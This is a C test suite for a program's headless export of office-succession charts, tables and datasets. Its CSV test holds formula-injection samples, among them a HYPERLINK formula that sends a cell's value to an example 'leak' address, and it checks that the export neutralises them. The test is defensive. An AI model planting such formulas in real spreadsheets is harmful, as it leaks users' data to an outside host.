/* test-cli-export.c — --export-chart, --export-table, --export-dataset with no display
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <glib/gstdio.h>
#include <signal.h>
#include <string.h>
#include <unistd.h>

#include "succession-test-files.h"
#include "succession-test-utils.h"

static char *dir;

static char *
output_option (const char *name)
{
  return g_strdup_printf ("--output=%s/%s", dir, name);
}

static int
run (const char *const *argv,
     char             **err)
{
  g_autofree char *out = NULL;

  return succession_test_run_cli (argv, &out, err);
}

static void
test_success (void)
{
  g_autofree char *pdf = output_option ("chart.pdf");
  g_autofree char *tiles = output_option ("tiles.pdf");
  g_autofree char *svg = output_option ("chart.svg");
  g_autofree char *png = output_option ("chart.png");
  g_autofree char *csv = output_option ("table.csv");
  g_autofree char *json = output_option ("dataset.json");
  g_autofree char *err = NULL;

  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson,cppcc-chairperson", pdf,
                                          "--paper=letter", "--landscape", "--from=1950", "--to=1990-06", NULL },
                        &err),
                   ==, 0);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson,cppcc-chairperson", tiles,
                                          "--tiles", NULL },
                        &err),
                   ==, 0);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", svg, NULL }, &err), ==, 0);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", png, "--dpi=72", NULL }, &err), ==, 0);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-table=npcsc-chairperson", csv, NULL }, &err), ==, 0);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-dataset", json, NULL }, &err), ==, 0);

  for (guint i = 0; i < 6; i++)
    {
      const char      *names[] = { "chart.pdf", "tiles.pdf", "chart.svg", "chart.png", "table.csv", "dataset.json" };
      g_autofree char *path = g_build_filename (dir, names[i], NULL);

      g_assert_true (g_file_test (path, G_FILE_TEST_IS_REGULAR));
    }
}

static void
test_bad_input (void)
{
  g_autofree char *pdf = output_option ("nope.pdf");
  g_autofree char *nowhere = g_strdup_printf ("--output=%s/missing/x.csv", dir);
  g_autofree char *err = NULL;

  /* An unknown office: 1 with a message, nothing written. */
  g_assert_cmpint (run ((const char *[]){ "--export-chart=no-such-office", pdf, NULL }, &err), ==, 1);
  g_assert_nonnull (strstr (err, "no-such-office"));
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-table=no-such-office", pdf, NULL }, &err), ==, 1);
  g_clear_pointer (&err, g_free);

  /* An output that cannot be written: 1, a message, and nothing created. */
  g_assert_cmpint (run ((const char *[]){ "--export-table=npcsc-chairperson", nowhere, NULL }, &err), ==, 1);
  g_assert_nonnull (strstr (err, "cannot write"));
  g_clear_pointer (&err, g_free);
  {
    g_autofree char *path = g_build_filename (dir, "nope.pdf", NULL);
    g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  }
}

static void
test_usage (void)
{
  g_autofree char *doc = output_option ("chart.doc");
  g_autofree char *pdf = output_option ("chart2.pdf");
  g_autofree char *err = NULL;

  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", NULL }, &err), ==, 2);
  g_assert_nonnull (strstr (err, "--output"));
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", doc, NULL }, &err), ==, 2);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", pdf, "--format=tiff", NULL }, &err), ==, 2);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", pdf, "--paper=a3", NULL }, &err), ==, 2);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", pdf, "--from=1950-13", NULL }, &err), ==, 2);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-dataset", NULL }, &err), ==, 2);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-dataset", pdf, "--paper=a4", NULL }, &err), ==, 2);
  g_clear_pointer (&err, g_free);
  /* --tiles lays out the chart's sheets: it goes with --export-chart only. */
  g_assert_cmpint (run ((const char *[]){ "--export-table=npcsc-chairperson", pdf, "--tiles", NULL }, &err), ==, 2);
  g_assert_nonnull (strstr (err, "--tiles"));
}

static char *
make_folder (const char *name)
{
  char *folder = g_build_filename (dir, name, NULL);

  g_assert_cmpint (g_mkdir (folder, 0755), ==, 0);
  return folder;
}

/* A user's Ctrl+C or `kill` reaches the export with the default actions, whatever the test
 * runner ignores. Runs in the child between fork and exec: signal() only. */
static void
default_signals (gpointer user_data)
{
  signal (SIGINT, SIG_DFL);
  signal (SIGTERM, SIG_DFL);
  signal (SIGHUP, SIG_DFL);
}

/* Starts an export that stops once it has written @stall_after bytes, waits until it says so,
 * and kills it with @signum. */
static void
kill_during_export (const char *const *args,
                    const char        *stall_after,
                    int                signum)
{
  g_autoptr(GSubprocessLauncher) launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE |
                                                                        G_SUBPROCESS_FLAGS_STDERR_PIPE);
  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
  g_autoptr(GSubprocess) proc = NULL;
  g_autoptr(GDataInputStream) err = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *line = NULL;

  g_ptr_array_add (argv, (gpointer) g_getenv ("SUCCESSION_BIN"));
  for (guint i = 0; args[i] != NULL; i++)
    g_ptr_array_add (argv, (gpointer) args[i]);
  g_ptr_array_add (argv, NULL);

  g_subprocess_launcher_unsetenv (launcher, "DISPLAY");
  g_subprocess_launcher_unsetenv (launcher, "WAYLAND_DISPLAY");
  g_subprocess_launcher_unsetenv (launcher, "G_DEBUG");
  g_subprocess_launcher_setenv (launcher, "SUCCESSION_TEST_EXPORT_STALL_AFTER", stall_after, TRUE);
  g_subprocess_launcher_set_child_setup (launcher, default_signals, NULL, NULL);
  proc = g_subprocess_launcher_spawnv (launcher, (const char *const *) argv->pdata, &error);
  g_assert_no_error (error);

  /* "stalled TEMPORARY-FILE": the export is half written. */
  err = g_data_input_stream_new (g_subprocess_get_stderr_pipe (proc));
  while ((line = g_data_input_stream_read_line_utf8 (err, NULL, NULL, &error)) != NULL &&
         !g_str_has_prefix (line, "stalled "))
    g_clear_pointer (&line, g_free);
  g_assert_no_error (error);
  if (line == NULL)
    g_error ("the export ended before it was half written (%s)", args[0]);

  g_subprocess_send_signal (proc, signum);
  g_subprocess_wait (proc, NULL, &error);
  g_assert_no_error (error);
  /* It dies of the signal, as a program killed that way does. */
  g_assert_true (g_subprocess_get_if_signaled (proc));
  g_assert_cmpint (g_subprocess_get_term_sig (proc), ==, signum);
}

/* Killed half way by SIGINT, SIGTERM or SIGHUP, an export leaves the old file as it was, or
 * no file: no truncated file under the name asked for, no temporary file beside it. */
static void
test_killed (void)
{
  static const int signals[] = { SIGTERM, SIGINT, SIGHUP };

  for (guint i = 0; i < G_N_ELEMENTS (signals); i++)
    {
      g_autofree char *name = g_strdup_printf ("killed-%d", signals[i]);
      g_autofree char *folder = make_folder (name);
      g_autofree char *fresh = g_strdup_printf ("--output=%s/fresh.json", folder);
      g_autofree char *old_pdf = g_build_filename (folder, "chart.pdf", NULL);
      g_autofree char *pdf = g_strdup_printf ("--output=%s", old_pdf);
      g_autofree char *listing = NULL;
      g_autofree char *contents = NULL;

      kill_during_export ((const char *[]){ "--export-dataset", fresh, NULL }, "100000", signals[i]);
      listing = succession_test_list_dir (folder);
      g_assert_cmpstr (listing, ==, "");
      g_clear_pointer (&listing, g_free);

      g_assert_true (g_file_set_contents (old_pdf, "the old chart", -1, NULL));
      kill_during_export ((const char *[]){ "--export-chart=npcsc-chairperson,cppcc-chairperson", pdf, NULL },
                          "20000", signals[i]);
      listing = succession_test_list_dir (folder);
      g_assert_cmpstr (listing, ==, "chart.pdf");
      contents = succession_test_read_file (old_pdf);
      g_assert_cmpstr (contents, ==, "the old chart");
    }
}

/* SIGKILL cannot be caught: the temporary file stays, under a name that says what it is, and
 * the file asked for is untouched. */
static void
test_killed_hard (void)
{
  g_autofree char *folder = make_folder ("killed-hard");
  g_autofree char *target = g_build_filename (folder, "data.json", NULL);
  g_autofree char *output = g_strdup_printf ("--output=%s", target);
  g_autofree char *listing = NULL;
  g_autofree char *contents = NULL;
  g_autoptr(GRegex) expected = g_regex_new ("^\\.data\\.json\\.[A-Za-z0-9]{6}\\.tmp data\\.json$", 0, 0, NULL);

  g_assert_true (g_file_set_contents (target, "old", -1, NULL));
  kill_during_export ((const char *[]){ "--export-dataset", output, NULL }, "100000", SIGKILL);

  listing = succession_test_list_dir (folder);
  g_assert_true (g_regex_match (expected, listing, 0, NULL));
  contents = succession_test_read_file (target);
  g_assert_cmpstr (contents, ==, "old");
}

/* An export to a symbolic link replaces the file it points to; the link stays a link. */
static void
test_link (void)
{
  g_autofree char *folder = make_folder ("link");
  g_autofree char *real = g_build_filename (folder, "real.csv", NULL);
  g_autofree char *link = g_build_filename (folder, "link.csv", NULL);
  g_autofree char *output = g_strdup_printf ("--output=%s", link);
  g_autofree char *contents = NULL;
  g_autofree char *listing = NULL;
  g_autofree char *err = NULL;

  g_assert_true (g_file_set_contents (real, "old", -1, NULL));
  g_assert_cmpint (symlink ("real.csv", link), ==, 0);

  g_assert_cmpint (run ((const char *[]){ "--export-table=npcsc-chairperson", output, NULL }, &err), ==, 0);
  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
  contents = succession_test_read_file (real);
  g_assert_true (g_str_has_prefix (contents, "number,name,"));
  listing = succession_test_list_dir (folder);
  g_assert_cmpstr (listing, ==, "link.csv real.csv");
}

/* The dataset being read is never the export's output, however it is named: refused with 1 and
 * a message, and the file is as it was. */
static void
test_dataset_not_overwritten (void)
{
  g_autofree char *folder = make_folder ("own-dataset");
  g_autofree char *source = g_test_build_filename (G_TEST_DIST, "fixtures", "good", "small.json", NULL);
  g_autofree char *mine = g_build_filename (folder, "mine.json", NULL);
  g_autofree char *hard = g_build_filename (folder, "hard.json", NULL);
  g_autofree char *soft = g_build_filename (folder, "soft.json", NULL);
  g_autofree char *dotted = g_build_filename (folder, ".", "mine.json", NULL);
  g_autofree char *dataset = g_strdup_printf ("--dataset=%s", mine);
  g_autofree char *original = succession_test_read_file (source);
  const char      *outputs[] = { mine, hard, soft, dotted };

  g_assert_true (g_file_set_contents (mine, original, -1, NULL));
  g_assert_cmpint (link (mine, hard), ==, 0);
  g_assert_cmpint (symlink ("mine.json", soft), ==, 0);

  for (guint i = 0; i < G_N_ELEMENTS (outputs); i++)
    {
      g_autofree char   *output = g_strdup_printf ("--output=%s", outputs[i]);
      const char *const *commands[] = {
        (const char *[]){ dataset, "--export-dataset", output, NULL },
        (const char *[]){ dataset, "--export-table=chair", output, NULL },
        (const char *[]){ dataset, "--export-chart=chair", "--format=pdf", output, NULL },
      };

      for (guint c = 0; c < G_N_ELEMENTS (commands); c++)
        {
          g_autofree char *err = NULL;
          g_autofree char *contents = NULL;

          g_assert_cmpint (run (commands[c], &err), ==, 1);
          g_assert_nonnull (strstr (err, "dataset"));
          contents = succession_test_read_file (mine);
          g_assert_cmpstr (contents, ==, original);
        }
    }

  {
    g_autofree char *listing = succession_test_list_dir (folder);
    g_assert_cmpstr (listing, ==, "hard.json mine.json soft.json");
  }
}

/* Cells a spreadsheet would run as formulas are neutralised; --raw-csv keeps them as they are. */
static void
test_csv_formulas (void)
{
  g_autofree char *fixture = g_test_build_filename (G_TEST_DIST, "fixtures", "good", "formula-names.json", NULL);
  g_autofree char *dataset = g_strdup_printf ("--dataset=%s", fixture);
  g_autofree char *safe_path = g_build_filename (dir, "formulas.csv", NULL);
  g_autofree char *raw_path = g_build_filename (dir, "formulas-raw.csv", NULL);
  g_autofree char *safe_output = g_strdup_printf ("--output=%s", safe_path);
  g_autofree char *raw_output = g_strdup_printf ("--output=%s", raw_path);
  g_autofree char *safe = NULL;
  g_autofree char *raw = NULL;
  g_autofree char *err = NULL;

  g_assert_cmpint (run ((const char *[]){ dataset, "--export-table=office", safe_output, NULL }, &err), ==, 0);
  g_clear_pointer (&err, g_free);
  safe = succession_test_read_file (safe_path);

  /* Every line after the header: number, then the name; a formula never starts a cell. */
  g_assert_nonnull (strstr (safe, "\r\n1,\"'=HYPERLINK(\"\"https://example.org/leak?\"\"&A1,\"\"click\"\")\",p1,"));
  g_assert_nonnull (strstr (safe, "\r\n2,'+86 10 1234 5678,p2,"));
  g_assert_nonnull (strstr (safe, "\r\n3,'-2+3,p3,"));
  g_assert_nonnull (strstr (safe, "\r\n4,'@SUM(1+1),p4,"));
  g_assert_nonnull (strstr (safe, "\r\n5,'\t=1+1,p5,"));
  g_assert_nonnull (strstr (safe, "\r\n6,Plain Name,p6,"));
  g_assert_null (strstr (safe, ",="));
  g_assert_null (strstr (safe, ",+"));
  g_assert_null (strstr (safe, ",@"));

  g_assert_cmpint (run ((const char *[]){ dataset, "--export-table=office", raw_output, "--raw-csv", NULL }, &err), ==, 0);
  raw = succession_test_read_file (raw_path);
  g_assert_nonnull (strstr (raw, "\r\n1,\"=HYPERLINK("));
  g_assert_nonnull (strstr (raw, "\r\n2,+86 10 1234 5678,p2,"));
  g_assert_nonnull (strstr (raw, "\r\n5,\"\t=1+1\",p5,"));
}

/* Every numeric option refuses what makes no sense, with 2 and a message, and writes nothing. */
static void
test_option_ranges (void)
{
  static const char *const bad_dpi[] = { "--dpi=0", "--dpi=-150", "--dpi=9", "--dpi=1201", "--dpi=1e9",
                                         "--dpi=nan", "--dpi=inf", "--dpi=abc", "--dpi=150dpi", "--dpi=" };
  g_autofree char         *png_path = g_build_filename (dir, "range.png", NULL);
  g_autofree char         *png = g_strdup_printf ("--output=%s", png_path);

  for (guint i = 0; i < G_N_ELEMENTS (bad_dpi); i++)
    {
      g_autofree char *err = NULL;

      g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", png, bad_dpi[i], NULL }, &err), ==, 2);
      g_assert_nonnull (strstr (err, "--dpi"));
      g_assert_false (g_file_test (png_path, G_FILE_TEST_EXISTS));
    }

  {
    g_autofree char *err = NULL;

    g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-chairperson", png, "--dpi=10", NULL }, &err), ==, 0);
    g_assert_true (g_file_test (png_path, G_FILE_TEST_IS_REGULAR));
  }
}

/* Both ends of --from/--to are honoured; a range with no tenure writes nothing and fails. */
static void
test_date_range (void)
{
  g_autofree char *pdf_path = g_build_filename (dir, "range.pdf", NULL);
  g_autofree char *pdf = g_strdup_printf ("--output=%s", pdf_path);
  g_autofree char *err = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GError) error = NULL;
  int   status = 0;
  char *pdftotext[] = { (char *) "pdftotext", (char *) "-layout", pdf_path, (char *) "-", NULL };

  g_assert_cmpint (run ((const char *[]){ "--export-chart=cppcc-secretary-general", pdf, "--from=1976", "--to=1995",
                                          "--no-table", NULL },
                        &err),
                   ==, 0);
  g_assert_true (g_spawn_sync (NULL, pdftotext, NULL,
                               G_SPAWN_SEARCH_PATH, NULL, NULL, &text, NULL, &status, &error));
  g_assert_no_error (error);
  g_assert_nonnull (strstr (text, "1976"));
  /* Nineteen years fit one sheet, so the axis is labelled every other year, up to 1994. */
  g_assert_nonnull (strstr (text, "1994"));
  g_assert_null (strstr (text, "1975"));
  /* The key is printed with the chart: what the shades, the hatching, the outline and the fades mean. */
  g_assert_nonnull (strstr (text, "Holder (two shades tell successive holders apart)"));
  g_assert_nonnull (strstr (text, "Acting holder (hatched)"));
  g_assert_nonnull (strstr (text, "Vacant (dashed outline)"));
  g_assert_nonnull (strstr (text, "Faded end"));
  for (int year = 1996; year <= 2010; year++)
    {
      g_autofree char *label = g_strdup_printf ("%d", year);

      g_assert_null (strstr (text, label));
    }
  g_assert_cmpint (g_unlink (pdf_path), ==, 0);

  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run ((const char *[]){ "--export-chart=cppcc-secretary-general", pdf, "--from=1800", "--to=1900",
                                          NULL },
                        &err),
                   ==, 1);
  g_assert_nonnull (strstr (err, "no tenure"));
  g_assert_false (g_file_test (pdf_path, G_FILE_TEST_EXISTS));
}

/* A printed table names each row's sources by number, and a list after the tables gives every
 * source once, with its title and address, so a reader of the paper can check them. */
static void
test_table_references (void)
{
  g_autofree char *pdf_path = g_build_filename (dir, "table.pdf", NULL);
  g_autofree char *pdf = g_strdup_printf ("--output=%s", pdf_path);
  g_autofree char *err = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GError) error = NULL;
  int   status = 0;
  char *pdftotext[] = { (char *) "pdftotext", pdf_path, (char *) "-", NULL };

  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-secretary-general", pdf, NULL }, &err), ==, 0);
  g_assert_true (g_spawn_sync (NULL, pdftotext, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &text, NULL, &status, &error));
  g_assert_no_error (error);
  /* Peng Zhen's row: his best source, then the numbers of his four. */
  g_assert_nonnull (strstr (text, "Sina / Xinhua News Agency (新华网)\n[1] [2] [3] [4]"));
  g_assert_nonnull (strstr (text, "Sources\n[1] “彭真 (附图)”. Sina / Xinhua News Agency (新华网), 2004-02-09. biography paragraph, career"));
  g_assert_true (strstr (text, "“Secretary-General of the Standing Committee of the National People’s Congress”") != NULL ||
                 strstr (text, "“Secretary-General of the Standing Committee of the National People's Congress”") != NULL);
  /* The office's fourteen tenures cite 34 distinct sources (a page cited at two places counts
   * twice), each listed once. */
  g_assert_nonnull (strstr (text, "[34] "));
  g_assert_null (strstr (text, "[35]"));
}

/* An SVG chart keeps its words as text: a holder's name can be searched and edited. */
static void
test_svg_text (void)
{
  g_autofree char *svg_path = g_build_filename (dir, "text.svg", NULL);
  g_autofree char *svg = g_strdup_printf ("--output=%s", svg_path);
  g_autofree char *err = NULL;
  g_autofree char *contents = NULL;

  g_assert_cmpint (run ((const char *[]){ "--export-chart=npcsc-secretary-general", svg, NULL }, &err), ==, 0);
  g_assert_true (g_file_get_contents (svg_path, &contents, NULL, NULL));
  g_assert_true (g_str_has_suffix (g_strchomp (contents), "</svg>"));
  g_assert_nonnull (strstr (contents, ">Peng Zhen</text>"));
  g_assert_true (strstr (contents, ">Secretary-General of the Standing Committee of the National People&apos;s Congress</text>") != NULL ||
                 strstr (contents, ">Secretary-General of the Standing Committee of the National People's Congress</text>") != NULL);
  /* The key too. */
  g_assert_nonnull (strstr (contents, ">Vacant (dashed outline)</text>"));
}

static char *
pdf_fonts (const char *path)
{
  char *pdffonts[] = { (char *) "pdffonts", (char *) path, NULL };
  g_autoptr(GError) error = NULL;
  char *out = NULL;
  int   status = 0;

  g_assert_true (g_spawn_sync (NULL, pdffonts, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, NULL, &status, &error));
  g_assert_no_error (error);
  return out;
}

/* Chinese in a PDF takes the glyph shapes of its language, whatever the interface's: the
 * Simplified face in an English interface (not the Japanese one fontconfig lists first), the
 * Traditional face in a Traditional Chinese one. */
static void
test_pdf_fonts (void)
{
  g_autofree char *pdf_path = g_build_filename (dir, "fonts.pdf", NULL);
  g_autofree char *pdf = g_strdup_printf ("--output=%s", pdf_path);
  g_autofree char *err = NULL;
  g_autofree char *english = NULL;
  g_autofree char *traditional = NULL;
  g_auto (GStrv) env = g_get_environ ();
  char *argv[] = { (char *) g_getenv ("SUCCESSION_BIN"), (char *) "--export-chart=cppcc-secretary-general", pdf, NULL };
  g_autoptr(GError) error = NULL;
  int status = 0;

  g_assert_cmpint (run ((const char *[]){ "--export-chart=cppcc-secretary-general", pdf, NULL }, &err), ==, 0);
  english = pdf_fonts (pdf_path);
  g_assert_nonnull (strstr (english, "NotoSansCJKsc"));
  g_assert_null (strstr (english, "NotoSansCJKjp"));
  g_assert_null (strstr (english, "NotoSansCJKtc"));

  env = g_environ_setenv (env, "LANGUAGE", "zh_TW", TRUE);
  env = g_environ_setenv (env, "LANG", "zh_TW.UTF-8", TRUE);
  env = g_environ_setenv (env, "DISPLAY", "", TRUE);
  g_assert_true (g_spawn_sync (NULL, argv, env, G_SPAWN_STDOUT_TO_DEV_NULL | G_SPAWN_STDERR_TO_DEV_NULL,
                               NULL, NULL, NULL, NULL, &status, &error));
  g_assert_no_error (error);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
  traditional = pdf_fonts (pdf_path);
  g_assert_nonnull (strstr (traditional, "NotoSansCJKtc"));
  g_assert_null (strstr (traditional, "NotoSansCJKjp"));
}

int
main (int   argc,
      char *argv[])
{
  int status;

  g_test_init (&argc, &argv, NULL);
  dir = g_dir_make_tmp ("succession-cli-export-XXXXXX", NULL);

  g_test_add_func ("/cli-export/success", test_success);
  g_test_add_func ("/cli-export/bad-input", test_bad_input);
  g_test_add_func ("/cli-export/usage", test_usage);
  g_test_add_func ("/cli-export/killed", test_killed);
  g_test_add_func ("/cli-export/killed-hard", test_killed_hard);
  g_test_add_func ("/cli-export/link", test_link);
  g_test_add_func ("/cli-export/dataset-not-overwritten", test_dataset_not_overwritten);
  g_test_add_func ("/cli-export/csv-formulas", test_csv_formulas);
  g_test_add_func ("/cli-export/option-ranges", test_option_ranges);
  g_test_add_func ("/cli-export/date-range", test_date_range);
  g_test_add_func ("/cli-export/table-references", test_table_references);
  g_test_add_func ("/cli-export/pdf-fonts", test_pdf_fonts);
  g_test_add_func ("/cli-export/svg-text", test_svg_text);

  status = g_test_run ();
  g_free (dir);
  return status;
}
